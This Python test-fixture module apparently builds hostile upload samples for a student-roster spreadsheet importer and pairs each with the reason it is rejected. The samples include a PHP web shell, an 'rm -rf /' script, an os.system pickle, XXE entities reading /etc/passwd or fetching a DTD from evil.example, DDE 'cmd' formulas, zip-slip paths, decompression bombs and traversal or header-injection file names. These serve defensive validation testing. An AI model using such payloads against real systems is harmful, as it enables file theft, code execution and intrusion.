"""Files that nobody should send: made on the fly, each with a name and the reason for which it's refused.

`PLAIN` marks those that are tables all the same: of them only plain values may come in, and the bytes
themselves never come back out.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator

from tests.students.roster.workbooks import (
    CONTENT_TYPES,
    HEADER,
    PUPIL,
    ROOT_RELS,
    WORKBOOK,
    packed,
    sheet_xml,
    workbook,
)

PLAIN = "plain"
EICAR = (
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
)  # in two: scanners look for it
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CSV = (",".join(HEADER) + "\n" + ",".join(PUPIL) + "\n").encode()
GOOD = packed(sheet_xml(HEADER, PUPIL))
Sample = tuple[str, bytes, str]


def zipped(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def _foreign() -> Iterator[Sample]:
    """Another type under the name of a roster."""
    for kind, start in (
        ("pdf", b"%PDF-1.7\n1 0 obj"),
        ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("jpeg", b"\xff\xd8\xff\xe1\0\x10Exif\0\0GPS"),
        ("gif", b"GIF89a\x01\0\x01\0"),
        ("rar", b"Rar!\x1a\x07\x01\0"),
        ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("gzip", gzip.compress(CSV)),
        ("rtf", b"{\\rtf1\\object\\objdata 0105"),
    ):
        yield f"a {kind} file", start + b"\0" * 64, "not-a-spreadsheet"
    yield "an old Excel file", OLE + b"\0" * 512, "old-excel"
    yield "an old Excel file with macros", OLE + b"\0" * 64 + "_VBA_PROJECT".encode("utf-16-le"), "old-excel"
    yield "a locked workbook", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"
    yield "a Windows program", b"MZ\x90\0\x03" + bytes(range(256)) * 8, "unknown-encoding"
    yield "a Linux program", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8, "unknown-encoding"
    yield "a Java class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(range(256)), "unknown-encoding"
    yield "a shell script", b"#!/bin/sh\nrm -rf /\n", "no-header"
    yield "a PHP page", b"<?php system($_GET['c']); ?>", "no-header"
    yield "a web page", b"<html><script>alert(1)</script></html>", "web-page-excel"
    yield "an SVG with a script", b"<?xml version='1.0'?><svg onload='alert(1)'/>", "web-page-excel"
    yield "a pickle", b"\x80\x04cos\nsystem\n(S'id'\ntR.", "unknown-encoding"
    yield "the virus scanners' test file", EICAR.encode(), "no-header"
    yield "nothing", b"", "empty"
    yield "zeros", b"\0" * 4096, "empty"


def _two_faced() -> Iterator[Sample]:
    """Two types in one file: what one program takes for a picture, another takes for an archive."""
    yield "a PDF that is a workbook too", b"%PDF-1.4\n" + GOOD, "not-a-spreadsheet"
    yield "a GIF that is a workbook too", b"GIF89a/*" + GOOD, "not-a-spreadsheet"
    yield "a JPEG that is a workbook too", b"\xff\xd8\xff\xe0" + GOOD, "not-a-spreadsheet"
    yield "a program that is a workbook too", b"MZ\x90\0\x03\0" + GOOD, "unknown-encoding"
    yield "a web page that is a workbook too", b"<html><!--" + GOOD, "web-page-excel"
    yield "a workbook with a program behind it", GOOD + b"MZ" + b"\x90" * 5000, PLAIN
    yield "a workbook with a web page behind it", GOOD + b"<script>alert(1)</script>", PLAIN
    yield "a script that is a CSV too", b"<script>1</script>\n" + CSV, PLAIN
    yield "a Java archive", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe"}), "not-a-spreadsheet"
    yield (
        "an Android package",
        zipped({"AndroidManifest.xml": b"\3", "classes.dex": b"dex"}),
        "not-a-spreadsheet",
    )
    document = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w/>"}
    yield "a Word document", zipped(document), "not-a-spreadsheet"
    yield (
        "a presentation",
        zipped({"[Content_Types].xml": CONTENT_TYPES, "ppt/p.xml": "<p/>"}),
        "not-a-spreadsheet",
    )
    yield (
        "a binary workbook",
        zipped({"[Content_Types].xml": "", "xl/workbook.bin": b"\x83"}),
        "other-spreadsheet",
    )
    yield "an OpenDocument sheet", zipped({"mimetype": "x", "content.xml": "<x/>"}), "other-spreadsheet"


def _swollen() -> Iterator[Sample]:
    """Small on the wire and large in memory."""
    blank = b" " * (24 << 20)
    sheet = b"<worksheet><sheetData>" + blank + b"</sheetData></worksheet>"
    yield "a sheet of blanks", packed(sheet), "unpacks-too-large"
    texts = {"xl__sharedStrings_xml": "<sst>" + "<si><t>" + "A" * (24 << 20) + "</t></si></sst>"}
    relations = (
        '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="r2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    swollen = packed(sheet_xml(HEADER, PUPIL), **texts, **{"xl___rels__workbook_xml.rels": relations})
    yield "shared texts of one letter", swollen, None  # either: the part is read only when it is referred to
    yield "an archive in an archive", zipped({"a.zip": zipped({"b.zip": GOOD})}), "not-a-spreadsheet"
    many = {f"x{number}": "" for number in range(2_100)} | {"[Content_Types].xml": CONTENT_TYPES}
    yield "thousands of parts", zipped(many), "too-many-parts"
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(60))
    targets = "".join(
        f'<Relationship Id="r{n}" Type="x/worksheet" Target="worksheets/s{n}.xml"/>' for n in range(60)
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": f'<workbook xmlns:r="r"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"<Relationships>{targets}</Relationships>",
        **{f"xl/worksheets/s{n}.xml": sheet_xml(HEADER) for n in range(60)},
    }
    yield "sixty sheets", zipped(parts), "too-many-parts"
    deep = "<a>" * 5_000
    yield "elements without end", packed(f"<worksheet>{deep}"), "damaged"


def _poisoned() -> Iterator[Sample]:
    """A workbook's form with something else in mind."""
    entity = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    fetch = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'
    for kind, start in (("grow", entity), ("read a file", fetch), ("fetch", remote)):
        yield f"entities that {kind}", packed(start + sheet_xml(HEADER, PUPIL)), "damaged"
        yield (
            f"a workbook part with entities that {kind}",
            packed(sheet_xml(HEADER, PUPIL), xl__workbook_xml=start + WORKBOOK),
            "damaged",
        )
    macros = {"xl__vbaProject.bin": OLE + b"Sub Auto_Open()"}
    yield "a workbook with macros", packed(sheet_xml(HEADER, PUPIL), **macros), PLAIN
    program = {"xl__embeddings__oleObject1.bin": OLE + b"MZ"}
    yield "a workbook with a program in it", packed(sheet_xml(HEADER, PUPIL), **program), PLAIN
    away = (
        '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="http://evil.example/s.xml"'
        ' TargetMode="External"/></Relationships>'
    )
    yield "a sheet that lies elsewhere", packed("", **{"xl___rels__workbook_xml.rels": away}), None
    climb = '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>'
    yield "a sheet that climbs out", packed("", **{"xl___rels__workbook_xml.rels": climb}), None
    yield (
        "parts whose names climb out",
        zipped({"../../../../tmp/kiteline-owned": "x", "/etc/cron.d/kiteline": "x", **_parts_of(GOOD)}),
        PLAIN,
    )
    for kind, cell in (
        ("formulas", "<c><f>cmd|'/C calc'!A0</f><v>田晓</v></c>"),
        ("links", '<c t="str"><f>HYPERLINK("http://evil.example")</f><v>田晓</v></c>'),
        ("errors", '<c t="e"><v>#REF!</v></c>'),
    ):
        yield f"{kind} in its cells", packed(sheet_xml(HEADER, (cell, *PUPIL[1:]))), PLAIN
    yield "formulas in a CSV", ",".join(HEADER).encode() + b"\n=cmd|'/C calc'!A0,+1,@SUM(1),-2,0103\n", PLAIN
    yield (
        "hidden formulas in a CSV",
        ",".join(HEADER).encode() + "\n\u200b=1+1,女,2019-02-17,,0103\n".encode(),
        PLAIN,
    )


def _broken() -> Iterator[Sample]:
    """Torn, or lying about itself."""
    yield "half a workbook", GOOD[: len(GOOD) // 2], "damaged"
    yield "a head without a body", b"PK\x03\x04" + b"\0" * 26, "damaged"
    yield "an end without a beginning", b"PK\x05\x06" + b"\xff" * 18, "damaged"
    locked = bytearray(workbook(HEADER, PUPIL))
    with zipfile.ZipFile(io.BytesIO(bytes(locked))) as archive:
        struct.pack_into("<H", locked, archive.start_dir + 8, 1)
    yield "a part that says it is locked", bytes(locked), "encrypted"
    yield "a part packed in another way", zipped(_parts_of(GOOD), zipfile.ZIP_BZIP2), "damaged"
    yield "UTF-16 cut in the middle", "姓名,性别".encode("utf-16")[:-1], "unknown-encoding"
    yield "control characters", CSV + b"\x1b]0;owned\x07", "unknown-encoding"
    yield "one endless field", ",".join(HEADER).encode() + b'\n"' + b"A" * 400_000, None
    yield "bytes of no encoding", b"\x81\xff" * 4_000, "unknown-encoding"


def _parts_of(data: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


SAMPLES: list[tuple[str, bytes, str | None]] = [
    *_foreign(),
    *_two_faced(),
    *_swollen(),
    *_poisoned(),
    *_broken(),
]

# Names that mean something to somebody else.
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\x.csv",
    "/etc/cron.d/kiteline.csv",
    "roster.csv\0.exe",
    "roster\r\nSet-Cookie: a=b.csv",
    "<script>alert(1)</script>.csv",
    '"; filename="evil.html.csv',
    "=cmd|'/C calc'!A0.csv",
    "roster\u202evsc.exe",
    "con.csv",
    "a" * 300 + ".csv",
    ".htaccess",
    "王小雨.csv",
)
